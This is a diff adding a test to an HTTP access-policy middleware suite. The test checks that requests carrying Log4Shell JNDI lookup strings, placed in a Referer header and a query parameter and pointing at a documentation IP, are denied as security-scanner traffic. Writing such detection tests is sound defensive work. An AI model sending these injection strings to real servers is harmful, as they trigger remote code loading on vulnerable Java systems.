@@ -151,6 +151,18 @@ describe('access policy in the middleware', () => {
     ]);
   });
 
+  it('denies Security Scanners: a Log4Shell lookup in a Fetch Headers\' other header or the query is one, behind a browser User-Agent', async () => {
+    const { run, sink } = middleware({ denyAgentTypes: ['Security Scanner'] });
+    expect((await run(get('/', BROWSER_UA, { referer: '${jndi:ldap://198.51.100.7/a}' }), app, LOOPBACK)).status).toBe(403);
+    expect((await run(get('/?q=${jndi:dns://198.51.100.7/a}', BROWSER_UA), app, LOOPBACK)).status).toBe(403);
+    expect((await run(get('/?q={x}', BROWSER_UA, { cookie: 'prefs={"a":1}' }), app, LOOPBACK)).status).toBe(200);
+    expect(sink.visits.map((v) => [v.response_status_code, v.decision?.rule])).toEqual([
+      [403, 'deny-agent-type'],
+      [403, 'deny-agent-type'],
+      [200, undefined],
+    ]);
+  });
+
   it('answers denied types with 402 and the configured body and headers (pay-per-crawl)', async () => {
     const { run } = middleware({ denyAgentTypes: ['AI Data Scraper'], denyResponse: { status: 402, body: '{"price":"0.01"}', contentType: 'application/json', headers: { 'crawler-price': 'USD 0.01' } } });
     const response = await run(get('/article', CLAUDEBOT_UA), app, LOOPBACK);
